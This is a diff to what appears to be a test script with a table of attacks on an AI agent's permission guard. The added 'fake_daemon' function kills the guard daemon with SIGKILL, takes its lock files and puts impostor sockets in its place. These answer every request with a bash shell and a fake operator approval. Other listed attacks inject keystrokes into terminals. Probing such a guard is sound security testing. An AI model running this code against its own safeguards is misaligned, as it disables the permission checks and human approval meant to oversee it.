@@ -12,6 +12,8 @@ import json
 import os
 import pty
 import re
+import signal
+import socket
 import struct
 import subprocess
 import sys
@@ -190,7 +192,49 @@ def multiplexer():
         said.append(repr(done))
 
 
+def frame(tag, body):
+    return tag + struct.pack("<I", len(body)) + body + b"." + struct.pack("<I", 0)
+
+
+def fake_daemon():
+    """End the daemon and take its place, with its locks: all that is asked may run, and whoever asks is obeyed."""
+    place = next(Path(GUARD).rglob("agent.sock")).parent
+    line = socket.socket(socket.AF_UNIX)
+    line.connect(str(place / "operator.sock"))
+    line.sendall(frame(b"J", b'{"op": "hello"}'))
+    daemon = int(re.search(rb'"pid": ?(\d+)', line.recv(4096))[1])
+    locks = [(place / name).open("a") for name in ("start.lock", "daemon.lock")]
+    fcntl.flock(locks[0], fcntl.LOCK_EX)
+    os.kill(daemon, signal.SIGKILL)
+    said.append(f"ended {daemon}")
+    fcntl.flock(locks[1], fcntl.LOCK_EX)
+    answers = {
+        "agent.sock": frame(b"X", b"/bin/bash"),
+        "operator.sock": frame(b"J", b'{"ok": true, "state": "ACTIVE"}'),
+    }
+    for name, reply in answers.items():
+        (place / name).unlink(missing_ok=True)
+        listener = socket.socket(socket.AF_UNIX)
+        listener.bind(str(place / name))
+        listener.listen()
+        threading.Thread(target=let_all_run, args=(listener, reply), daemon=True).start()
+    time.sleep(SECONDS)
+
+
+def let_all_run(listener, reply):
+    kept = []
+    while True:
+        peer = listener.accept()[0]
+        kept.append(peer)
+        said.append("asked")
+        try:
+            peer.sendall(reply)
+        except OSError as e:
+            said.append(repr(e))
+
+
 ATTACKS = {
+    "a daemon of the agent's own": fake_daemon,
     "TIOCSTI into every terminal": tiocsti,
     "a y written to every terminal": write_tty,
     "the operator's message of another terminal": decide,
@@ -216,6 +260,8 @@ def attack():
     Path(f"{OUT}.tried").write_text(json.dumps(said))
 
 
-threading.Thread(target=attack, daemon=True).start()
+attacking = threading.Thread(target=attack, daemon=True)
+attacking.start()
 out, err = asked.communicate()
+attacking.join(2 * SECONDS)
 Path(OUT).write_text(json.dumps({"code": asked.returncode, "out": out, "err": err}))
